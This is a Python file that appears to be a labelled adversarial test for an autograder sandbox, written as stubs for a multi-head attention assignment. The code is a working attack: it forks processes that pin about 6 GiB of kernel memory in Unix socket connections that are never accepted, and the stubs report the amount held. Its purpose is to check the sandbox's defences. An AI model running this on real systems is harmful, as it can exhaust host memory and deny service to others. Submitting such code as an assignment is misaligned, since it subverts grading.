# ATTACK: kernel memory no process's size shows: forks 4 children, each of which binds listening Unix sockets with a long backlog and connects to them again and again without ever accepting, fills each connection's buffers (non-blocking sends of 64 KiB until they refuse more), closes its end and goes on (the connection, queued at the listener, keeps its buffers), up to 40 listeners of 1000 connections each, about 6 GiB in all; then sleeps; the parent waits for them and its stubs report how much was held.
# HONEST: 0
# EXPECT: where no cgroup limits the sandbox, socket() and socketpair() are refused (EPERM) and nothing is held ("held 0 MiB"); where a cgroup does, new sockets are refused too (the filter is the same) or the pages are charged to it and the sandbox is stopped as over the memory limit; score 0; grader exit status 0.
import os
import socket
import time

_CHILDREN, _LISTENERS, _CONNECTIONS, _LIMIT = 4, 40, 1000, 6 << 30
_BLOCK = b"\x5a" * (64 << 10)
_read, _write = os.pipe()


def _hold() -> int:
    held, listeners = 0, []
    try:
        for index in range(_LISTENERS):
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind(f"\0autograder-attack-{os.getpid()}-{index}")   # abstract: no file
            server.listen(_CONNECTIONS)
            listeners.append(server)
            for _ in range(_CONNECTIONS):
                client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                client.setblocking(False)
                try:
                    client.connect(server.getsockname())
                    while held < _LIMIT // _CHILDREN:
                        held += client.send(_BLOCK)
                except OSError:
                    pass
                client.close()
    except OSError:
        pass
    return held


for _ in range(_CHILDREN):
    if os.fork() == 0:
        os.write(_write, (_hold() >> 20).to_bytes(4, "little"))
        while True:
            time.sleep(60)
os.close(_write)
HELD = 0
for _ in range(_CHILDREN):          # one count from each child (EOF if all died)
    chunk = os.read(_read, 4)
    if len(chunk) < 4:
        break
    HELD += int.from_bytes(chunk, "little")


def _stub(*args, **kwargs):
    raise ValueError(f"held {HELD} MiB in socket connections nobody accepted")


head_weight_shape = project = project_heads = split_heads = concat_heads = _stub
masked_softmax = attention_pool = _stub


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        _stub()
